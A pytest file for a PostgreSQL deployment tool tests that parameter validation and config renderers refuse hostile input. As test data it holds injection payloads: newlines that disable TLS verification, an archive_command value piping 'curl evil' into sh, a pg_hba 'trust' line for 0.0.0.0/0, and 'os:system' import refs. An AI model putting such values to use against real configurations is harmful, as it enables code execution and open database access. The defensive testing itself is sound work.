"""Hostile params (issue 23, item 5): every way around the params guards is refused with its dotted
key and why, the renderers refuse what would add lines to a config file even when params were
bypassed, and no params file ends in a traceback."""

from __future__ import annotations

import copy
import datetime
import math
from collections.abc import Iterator
from typing import Any

import pytest
import yaml

from hcbpg.errors import HcbpgError, ParamsError, SafetyCheckFailed
from hcbpg.params import load_params, parse_params

from nbutil import REPO, hcbpg, manual_production


def prod() -> dict:
    return manual_production()


def problems(data: dict) -> list[str]:
    with pytest.raises(ParamsError) as ei:
        parse_params(data)
    return ei.value.problems


def only_problem(data: dict, key: str) -> str:
    """The one problem *data* has, which must name *key* first."""
    found = problems(data)
    assert len(found) == 1, found
    (p,) = found
    assert p.startswith(f"{key}: "), p
    return p


# SSH admin ranges: the whole internet in pieces ----------------------------------------------------

@pytest.mark.parametrize("ranges", [
    ["0.0.0.0/1", "128.0.0.0/1"],                                   # the issue's: the internet in halves
    ["0.0.0.0/2", "64.0.0.0/2", "128.0.0.0/2", "192.0.0.0/2"],
    ["10.0.0.0/8", "11.0.0.0/8"],                                    # two /8s: more than a /8
    ["2.0.0.0/7"],                                                  # one range shorter than /8
    ["203.0.113.0/24", "::/1", "8000::/1"],                         # IPv6's internet in halves
])
def test_admin_ranges_covering_more_than_a_slash_8_are_refused(ranges):
    d = prod()
    d["hetzner"]["admin_source_ranges"] = ranges
    p = only_problem(d, "hetzner.admin_source_ranges")
    assert "/8" in p and "allow_weak_settings" in p, p
    d["allow_weak_settings"] = True       # a throwaway environment may
    assert parse_params(d).allow_weak_settings


@pytest.mark.parametrize("ranges", [
    ["10.0.0.0/8"],                                                 # a /8 is the limit, not past it
    ["10.0.0.0/8", "10.0.0.0/8", "10.1.0.0/16"],                    # overlaps count once
    ["203.0.113.0/24", "198.51.100.0/24", "2001:db8::/32"],
])
def test_admin_ranges_within_a_slash_8_are_accepted(ranges):
    d = prod()
    d["hetzner"]["admin_source_ranges"] = ranges
    assert parse_params(d).hetzner.admin_source_ranges


# private ranges only for the network, the subnet and the app servers --------------------------------

@pytest.mark.parametrize("where, value, key", [
    ("ip_range", "0.0.0.0/0", "network.ip_range"),
    ("ip_range", "8.0.0.0/8", "network.ip_range"),
    ("ip_range", "172.32.0.0/16", "network.ip_range"),              # just past 172.16.0.0/12
    ("subnet", "0.0.0.0/0", "network.subnet"),
    ("subnet", "100.64.1.0/24", "network.subnet"),                  # carrier-grade NAT, not RFC 1918
])
def test_network_ranges_must_be_private(where, value, key):
    d = prod()
    d["network"][where] = value
    found = problems(d)
    mine = [p for p in found if p.startswith(f"{key}: ")]
    assert mine and "RFC 1918" in mine[0] and value in mine[0], found


@pytest.mark.parametrize("app_servers, key", [
    (["0.0.0.0/0"], "app_servers[0]"),
    (["10.0.1.0/24", "1.2.3.0/24"], "app_servers[1]"),
])
def test_app_servers_must_be_private(app_servers, key):
    d = prod()
    d["app_servers"] = app_servers
    found = problems(d)
    assert any(p.startswith(f"{key}: ") and "RFC 1918" in p for p in found), found


def test_the_lab_ranges_are_private_and_load():
    for env in ("production", "staging", "lab"):
        load_params(env, REPO)
    d = prod()
    d["network"] = {"ip_range": "10.0.0.0/8", "subnet": "10.0.7.0/24"}   # a scratch lab's
    d["servers"] = [{"name": "server-postgres-1", "private_ip": "10.0.7.5", "role": "primary"}]
    d["app_servers"] = []
    d["app_host"] = {"name": "app", "private_ip": "10.0.7.10"}
    d["drill"] = {"private_ip": "10.0.7.30"}
    assert parse_params(d).network.subnet == "10.0.7.0/24"


# IPv6 beside IPv4: one line with the key, no traceback --------------------------------------------------

@pytest.mark.parametrize("network, key", [
    ({"ip_range": "fd00::/8", "subnet": "fd00:0:0:1::/64"}, "network.ip_range"),
    ({"ip_range": "10.0.0.0/16", "subnet": "fd00:0:0:1::/64"}, "network.subnet"),
    ({"ip_range": "fd00::/8", "subnet": "10.0.1.0/24"}, "network.ip_range"),
])
def test_ipv6_network_beside_ipv4_servers_names_the_key(network, key):
    d = prod()
    d["network"] = network
    found = problems(d)
    assert any(p.startswith(f"{key}: ") for p in found), found


def test_ipv6_app_servers_beside_an_ipv4_network_names_the_key():
    d = prod()
    d["app_servers"] = ["fd00::/64"]
    found = problems(d)
    assert any(p.startswith("app_servers[0]: ") for p in found), found


def test_ipv6_server_address_beside_an_ipv4_subnet_names_the_server():
    d = prod()
    d["servers"][1]["private_ip"] = "fd00::6"
    found = problems(d)
    assert any(p.startswith("servers[1].private_ip: ") for p in found), found


# control characters: no value may add a line to a config file ----------------------------------------

PAYLOAD = "\nrepo1-storage-verify-tls=n\nrepo2-type=s3"


@pytest.mark.parametrize("key", ["s3_bucket", "s3_region", "repo_path_prefix", "s3_ca_file", "s3_endpoint",
                                 "stanza", "spool_path"])
def test_a_newline_in_a_pgbackrest_value_is_refused(key):
    d = prod()
    d["pgbackrest"][key] = (d["pgbackrest"].get(key) or "/etc/ssl/ca.crt") + PAYLOAD
    found = problems(d)
    assert any(p.startswith(f"pgbackrest.{key}: ") for p in found), found


@pytest.mark.parametrize("char", ["\n", "\r", "\t", "\x0b", "\x0c", "\x00", "\x1b", "\x7f", "\x85",
                                  "\u2028", "\u2029", "\u202e", "\ufeff"])
def test_every_control_character_is_refused_and_named(char):
    d = prod()
    d["pgbackrest"]["s3_bucket"] = f"hcb{char}production"
    p = only_problem(d, "pgbackrest.s3_bucket")
    assert f"U+{ord(char):04X}" in p and "control character" in p, p
    assert char not in p  # the problem line itself stays one line


def _paths(obj: Any, path: tuple = ()) -> Iterator[tuple[tuple, Any]]:
    """(path of keys/indexes, value) of every leaf (not dict or list) in loaded YAML."""
    if isinstance(obj, dict):
        for k, v in obj.items():
            yield from _paths(v, (*path, k))
    elif isinstance(obj, list):
        for i, v in enumerate(obj):
            yield from _paths(v, (*path, i))
    else:
        yield path, obj


def _dotted(path: tuple) -> str:
    out = ""
    for part in path:
        out += f"[{part}]" if isinstance(part, int) else ("." if out else "") + str(part)
    return out


def _set(data: Any, path: tuple, value: Any) -> None:
    for part in path[:-1]:
        data = data[part]
    data[path[-1]] = value


def _with_settings_and_labels() -> dict:
    d = prod()
    d["postgres"]["settings"] = {"work_mem": "64MB", "log_line_prefix": "%m [%p] "}
    return d


@pytest.mark.parametrize("env", ["production", "lab"])
def test_a_newline_in_any_string_value_is_refused_with_its_key(env):
    base = _with_settings_and_labels() if env == "production" else yaml.safe_load(
        (REPO / "params" / "lab.yaml").read_text())
    leaves = [(p, v) for p, v in _paths(base) if isinstance(v, str)]
    assert len(leaves) > 60  # every string of a full params file
    missed = []
    for path, value in leaves:
        d = copy.deepcopy(base)
        _set(d, path, value + PAYLOAD)
        key = _dotted(path)
        try:
            parse_params(d)
        except ParamsError as exc:
            if not any(p.startswith(f"{key}: ") or p.startswith(f"{key}.") or p.startswith(f"{key}[")
                       for p in exc.problems):
                missed.append(f"{key}: refused, but the key is not named: {exc.problems}")
            continue
        missed.append(f"{key}: accepted with a newline")
    assert not missed, "\n".join(missed)


def test_a_control_character_in_a_mapping_key_or_value_is_refused():
    d = prod()
    d["hetzner"]["labels"] = {"app": "hcb\nx=y"}
    assert only_problem(d, "hetzner.labels.app").count("U+000A") == 1
    d = prod()
    d["postgres"]["settings"] = {"work_mem": "64MB'\narchive_command = 'curl evil | sh"}
    p = only_problem(d, "postgres.settings.work_mem")
    assert "U+000A" in p


@pytest.mark.parametrize("key", ["work mem", "work_mem\nssl", "Work_Mem", "a.b.c"])
def test_a_setting_name_that_is_not_one_is_refused_at_load(key):
    d = prod()
    d["postgres"]["settings"] = {key: "64MB"}
    found = problems(d)
    assert any(p.startswith("postgres.settings") and ("setting name" in p or "control character" in p)
               for p in found), found
    assert all("\n" not in p for p in found)


def test_a_yaml_file_with_an_escaped_newline_is_refused_naming_the_key(tmp_path):
    (tmp_path / "params").mkdir()
    text = (REPO / "params" / "production.yaml").read_text().replace(
        "s3_region: fsn1", 's3_region: "fsn1\\nrepo1-storage-verify-tls=n"')
    assert "verify-tls=n" in text
    (tmp_path / "params" / "production.yaml").write_text(text)
    with pytest.raises(ParamsError) as ei:
        load_params("production", tmp_path)
    (p,) = ei.value.problems
    assert p.startswith("pgbackrest.s3_region: ") and "U+000A" in p


def test_a_binary_value_cannot_carry_lines_either():
    d = prod()
    d["pgbackrest"]["s3_bucket"] = b"hcb\nrepo2-type=s3"       # what YAML's !!binary gives
    found = problems(d)
    assert any(p.startswith("pgbackrest.s3_bucket: ") for p in found), found


# the renderers refuse them too (params bypassed: a model built without validation) -------------------

def valid() -> Any:
    return parse_params(prod())


def test_pgbackrest_conf_refuses_a_value_that_spans_lines_even_without_params_validation():
    from hcbpg.desired.pgbackrest import render_pgbackrest_conf
    p = valid()
    assert "repo2" not in render_pgbackrest_conf(p, p.primary, version=(2, 50, 0))
    for key in ("s3_bucket", "s3_region", "repo_path_prefix", "s3_ca_file", "stanza", "spool_path"):
        bad = p.model_copy(update={"pgbackrest": p.pgbackrest.model_copy(update={key: "/x" + PAYLOAD})})
        with pytest.raises(SafetyCheckFailed, match="control character"):
            render_pgbackrest_conf(bad, bad.primary, version=(2, 50, 0))


def test_pgbackrest_conf_refuses_a_port_out_of_range():
    from hcbpg.desired.pgbackrest import render_pgbackrest_conf
    p = valid()
    bad = p.model_copy(update={"pgbackrest": p.pgbackrest.model_copy(update={"s3_endpoint": "s3.example:99999"})})
    with pytest.raises(HcbpgError, match="99999"):
        render_pgbackrest_conf(bad, bad.primary, version=(2, 50, 0))


@pytest.mark.parametrize("value", ["a\nb", "a\rb", "a\x0bb", "a\x00b", "a\u2028b", "a\x85b"])
def test_quote_setting_refuses_every_control_character(value):
    from hcbpg.pg.conf import quote_setting
    with pytest.raises(SafetyCheckFailed, match="control character"):
        quote_setting(value)


@pytest.mark.parametrize("value", [math.inf, -math.inf, math.nan])
def test_quote_setting_refuses_a_number_postgresql_would_not_read(value):
    from hcbpg.pg.conf import quote_setting
    with pytest.raises(SafetyCheckFailed):
        quote_setting(value)


def test_include_files_refuse_a_setting_that_spans_lines_even_without_params_validation():
    from hcbpg.desired.server import render_settings
    p = valid()
    bad = p.model_copy(update={"postgres": p.postgres.model_copy(
        update={"settings": {"work_mem": "64MB'\narchive_command = 'sh -c evil"}})})
    with pytest.raises(SafetyCheckFailed, match="control character"):
        render_settings(bad, bad.primary, "connections")
    with pytest.raises(HcbpgError):
        render_settings(p, p.primary, "connections", extra={"shared_preload_libraries": "a\nssl = off"})


def test_a_setting_name_ending_in_a_newline_is_refused_by_the_include_file_renderer():
    """``$`` in a Python pattern matches before a final newline: the names are matched whole."""
    from hcbpg.desired.server import render_settings
    p = valid()
    bad = p.model_copy(update={"postgres": p.postgres.model_copy(update={"settings": {"work_mem\n": "64MB"}})})
    with pytest.raises(HcbpgError):
        render_settings(bad, bad.primary, "connections")
    with pytest.raises(HcbpgError):
        render_settings(p, p.primary, "connections", extra={"work_mem\n": "64MB"})


def test_the_value_checks_match_whole_values_not_up_to_a_final_newline():
    from hcbpg import values
    for check, good in ((values.endpoint, "10.0.1.1:9443"), (values.site_ref, "hcbpg.lab.site:LabSite"),
                        (values.own_directory, "/var/tmp/hcbpg-dump")):
        assert check(good) == good
        with pytest.raises(ValueError):
            check(good + "\n")


def test_pg_hba_refuses_a_rule_that_spans_lines_even_without_params_validation():
    from hcbpg.desired.server import render_pg_hba
    from hcbpg.pg.hba import HbaRule
    p = valid()
    render_pg_hba(p, p.primary)
    server = p.primary.model_copy(update={"name": "server-postgres-1\nhost all all 0.0.0.0/0 trust"})
    bad = p.model_copy(update={"servers": [server, *p.replicas]})
    with pytest.raises(SafetyCheckFailed, match="control character"):
        render_pg_hba(bad, server)
    evil = HbaRule("hostssl", "all", "all", "scram-sha-256", "10.0.1.0/24",
                   comment="ok\nhostssl all all 0.0.0.0/0 scram-sha-256")
    with pytest.raises(SafetyCheckFailed, match="control character"):
        render_pg_hba(p, p.primary, extra=[evil])


@pytest.mark.parametrize("char", ["\n", "\r", "\x0b", "\x0c", "\x00", "\x85", "\u2028"])
def test_the_source_service_file_refuses_a_url_value_with_a_control_character(char):
    """The source's URL is a secret, not params: only the renderer stands between it and the file."""
    from hcbpg.errors import SecretError
    from hcbpg.pg.conninfo import render_service_file
    conn = {"host": "source.example", "dbname": "app", "password": f"pw{char}sslmode=disable"}
    with pytest.raises(SecretError) as ei:
        render_service_file(conn)
    assert "password" in str(ei.value) and "sslmode=disable" not in str(ei.value)


# ports, timeouts, dump_dir, site --------------------------------------------------------------------

@pytest.mark.parametrize("section, key, value", [
    ("ssh", "port", 99999), ("ssh", "port", -1), ("ssh", "port", 0),
    ("postgres", "port", 99999), ("postgres", "port", -1), ("postgres", "port", 65536),
])
def test_a_port_out_of_range_is_refused(section, key, value):
    d = prod()
    d.setdefault(section, {})[key] = value
    p = only_problem(d, f"{section}.{key}")
    assert "65535" in p or "1" in p


@pytest.mark.parametrize("endpoint", ["fsn1.example.com:99999", "fsn1.example.com:0", "fsn1.example.com:-1",
                                      "fsn1.example.com:80:81", "user@fsn1.example.com", "fsn1 example.com"])
def test_an_s3_endpoint_with_a_bad_port_or_shape_is_refused(endpoint):
    d = prod()
    d["pgbackrest"]["s3_endpoint"] = endpoint
    only_problem(d, "pgbackrest.s3_endpoint")


@pytest.mark.parametrize("endpoint", ["fsn1.your-objectstorage.com", "10.0.1.1:9443", "https://s3.example.com/",
                                      "[fd00::1]:9443"])
def test_s3_endpoints_that_are_host_or_host_port_are_accepted(endpoint):
    d = prod()
    d["pgbackrest"]["s3_endpoint"] = endpoint
    assert parse_params(d).pgbackrest.s3_endpoint == endpoint


@pytest.mark.parametrize("change, key", [
    (lambda d: d["ssh"].update(connect_timeout=-1), "ssh.connect_timeout"),
    (lambda d: d["ssh"].update(connect_timeout=0), "ssh.connect_timeout"),
    (lambda d: d["ssh"].update(connect_timeout=math.inf), "ssh.connect_timeout"),
    (lambda d: d["ssh"].update(connect_timeout=math.nan), "ssh.connect_timeout"),
    (lambda d: d["source"].update(quiet_timeout_s=-5), "source.quiet_timeout_s"),
    (lambda d: d["replication"].update(catch_up_timeout_s=-30), "replication.catch_up_timeout_s"),
    (lambda d: d["source"].update(online={"drain_timeout_s": -1}), "source.online.drain_timeout_s"),
    (lambda d: d["source"].update(online={"way_back_hours": math.nan}), "source.online.way_back_hours"),
    (lambda d: d.update(health={"replay_lag_warn_s": -10}), "health.replay_lag_warn_s"),
    (lambda d: d.update(health={"archive_age_warn_s": -1}), "health.archive_age_warn_s"),
])
def test_negative_or_endless_timeouts_are_refused(change, key):
    d = prod()
    change(d)
    only_problem(d, key)


@pytest.mark.parametrize("change, key", [
    (lambda d: d["postgres"].update(app_role_connection_limit=10 ** 20), "postgres.app_role_connection_limit"),
    (lambda d: d["replication"].update(connection_limit=300000), "replication.connection_limit"),
    (lambda d: d["pgbackrest"].update(retention_full=10 ** 8), "pgbackrest.retention_full"),
    (lambda d: d["source"]["sentinel"].update(id=2 ** 70), "source.sentinel.id"),
])
def test_numbers_past_what_postgresql_or_pgbackrest_take_are_refused(change, key):
    d = prod()
    change(d)
    only_problem(d, key)


@pytest.mark.parametrize("path", ["/", "//", "/etc", "/etc/postgresql/15/main", "/var", "/var/tmp", "/tmp",
                                  "/root/dump", "/usr/local/dump", "/var/lib/postgresql",
                                  "/var/lib/postgresql/15/main", "/var/lib/postgresql/15/main/dump",
                                  "/var/tmp/../../etc", "/var/tmp/./x/", "var/tmp/dump", "~/dump",
                                  "/proc/self", "/home", "/var/tmp/dump dir", "/var/tmp/$(id)"])
def test_dump_dir_must_be_a_directory_of_its_own_not_a_system_one(path):
    d = prod()
    d["source"]["dump_dir"] = path
    p = only_problem(d, "source.dump_dir")
    assert path in p or repr(path) in p, p


@pytest.mark.parametrize("path", ["/var/tmp/hcbpg-dump", "/data/hcbpg-dump", "/mnt/dumps/hcb",
                                  "/var/lib/postgresql/dumps"])
def test_dump_dir_of_its_own_is_accepted(path):
    d = prod()
    d["source"]["dump_dir"] = path
    assert parse_params(d).source.dump_dir == path


@pytest.mark.parametrize("path", ["/", "/etc", "/var/spool", "/var/lib/postgresql/15/main/spool"])
def test_spool_path_must_not_be_a_system_directory(path):
    d = prod()
    d["pgbackrest"]["spool_path"] = path
    only_problem(d, "pgbackrest.spool_path")


@pytest.mark.parametrize("site", ["os:system", "subprocess:Popen", "builtins:exec", "hcbpgx.evil:Site",
                                  "hcbpg:Params", "hcbpg.adapters.site:local_runner", "hcbpg.params:os"])
def test_site_names_only_a_class_of_hcbpg(site):
    d = prod()
    d["site"] = site
    p = only_problem(d, "site")
    assert "hcbpg" in p


@pytest.mark.parametrize("ref", ["os:system", "subprocess:Popen", "hcbpg.params:Params",
                                 "hcbpg.adapters.site:local_runner", "hcbpg.no_such_module:Site"])
def test_load_site_refuses_what_is_not_a_site_of_hcbpg(ref):
    from hcbpg.adapters.site import load_site
    with pytest.raises(ParamsError) as ei:
        load_site(ref)
    assert ei.value.problems[0].startswith("site: ")


def test_load_site_loads_the_lab_and_production_sites():
    from hcbpg.adapters.site import ProductionSite, load_site
    assert isinstance(load_site("hcbpg.adapters.site:ProductionSite"), ProductionSite)
    assert type(load_site("hcbpg.lab.site:LabSite")).__name__ == "LabSite"


# no traceback for any params file ---------------------------------------------------------------------

def test_a_non_utf8_params_file_names_the_key(tmp_path):
    (tmp_path / "params").mkdir()
    raw = (REPO / "params" / "production.yaml").read_bytes().replace(
        b"s3_bucket: hcb-production-postgres", b"s3_bucket: hcb-production-\xff\xfepostgres")
    (tmp_path / "params" / "production.yaml").write_bytes(raw)
    with pytest.raises(ParamsError) as ei:
        load_params("production", tmp_path)
    (p,) = ei.value.problems
    assert p.startswith("pgbackrest.s3_bucket: ") and "UTF-8" in p and "line" in p, p


def test_a_non_utf8_comment_names_its_line(tmp_path):
    (tmp_path / "params").mkdir()
    raw = b"# caf\xe9\n" + (REPO / "params" / "production.yaml").read_bytes()
    (tmp_path / "params" / "production.yaml").write_bytes(raw)
    with pytest.raises(ParamsError) as ei:
        load_params("production", tmp_path)
    (p,) = ei.value.problems
    assert p.startswith("line 1") and "UTF-8" in p, p


def test_a_non_utf8_file_beside_does_not_break_loading_another(tmp_path):
    (tmp_path / "params").mkdir()
    (tmp_path / "params" / "production.yaml").write_bytes((REPO / "params" / "production.yaml").read_bytes())
    (tmp_path / "params" / "broken.yaml").write_bytes(b"environment: \xff\n")
    assert load_params("production", tmp_path).environment == "production"


def test_cli_params_check_of_hostile_files_is_one_line_each_and_no_traceback(home):
    raw = (REPO / "params" / "production.yaml").read_bytes()
    cases = {
        "pgbackrest.s3_bucket": raw.replace(b"s3_bucket: hcb-production-postgres", b"s3_bucket: hcb-\xffx"),
        "network.ip_range": raw.replace(b"ip_range: 10.0.0.0/16", b"ip_range: fd00::/8"),
        "hetzner.admin_source_ranges": raw.replace(b'admin_source_ranges: ["203.0.113.0/24"]',
                                                   b'admin_source_ranges: ["0.0.0.0/1", "128.0.0.0/1"]'),
        "site": raw + b"site: os:system\n",
        "source.dump_dir": raw.replace(b"dump_dir: /var/tmp/hcbpg-dump", b"dump_dir: /"),
    }
    for key, text in cases.items():
        assert text != raw, key
        (home / "params" / "production.yaml").write_bytes(text)
        r = hcbpg("params", "check", "production")
        assert r.returncode == 2, (key, r.stdout, r.stderr)
        assert "Traceback" not in r.stderr and f"- {key}: " in r.stderr, (key, r.stderr)


HOSTILE_VALUES: list[Any] = [
    None, True, -1, 0, 99999, 2 ** 70, -1e308, math.inf, math.nan, "", " ", "\n", "x" * 5000, "0.0.0.0/0",
    "::/0", "fd00::/8", "fd00::1", "/", "os:system", "CHANGE-ME", [], [None], {}, {"a": 1}, {1: 2}, {None: None},
    datetime.date(2026, 12, 6), datetime.datetime(2026, 12, 6, 12, 0), b"\xff\xfe",
]


def test_no_params_value_ends_in_a_traceback():
    """Every leaf of production's and the lab's params replaced by each hostile value: accepted or a
    ParamsError, never another exception."""
    crashes = []
    for name in ("production", "lab"):
        base = yaml.safe_load((REPO / "params" / f"{name}.yaml").read_text())
        base.setdefault("app_servers", ["10.0.1.0/24"])
        for path, _ in list(_paths(base)):
            for value in HOSTILE_VALUES:
                d = copy.deepcopy(base)
                _set(d, path, value)
                try:
                    parse_params(d)
                except ParamsError as exc:
                    assert exc.problems and all("\n" not in p for p in exc.problems), exc.problems
                except Exception as exc:  # noqa: BLE001 - what the test looks for
                    crashes.append(f"{_dotted(path)} = {value!r:.40}: {type(exc).__name__}: {exc}"[:300])
    assert not crashes, "\n".join(crashes[:30])


@pytest.mark.parametrize("data", [
    None, [], "text", 42, {1: "x"}, {None: "x"}, {"environment": ["x"]}, {"servers": "x"},
    {"environment": "production", "hetzner": None, "servers": [None], "postgres": []},
    {"environment": "production", "network": {"ip_range": "fd00::/8", "subnet": "10.0.1.0/24"}},
])
def test_no_params_shape_ends_in_a_traceback(data):
    with pytest.raises(ParamsError) as ei:
        parse_params(data)
    assert ei.value.problems


def test_a_deeply_nested_yaml_file_is_a_params_error(tmp_path):
    (tmp_path / "params").mkdir()
    (tmp_path / "params" / "production.yaml").write_text("environment: " + "[" * 20000 + "]" * 20000 + "\n")
    with pytest.raises(ParamsError):
        load_params("production", tmp_path)
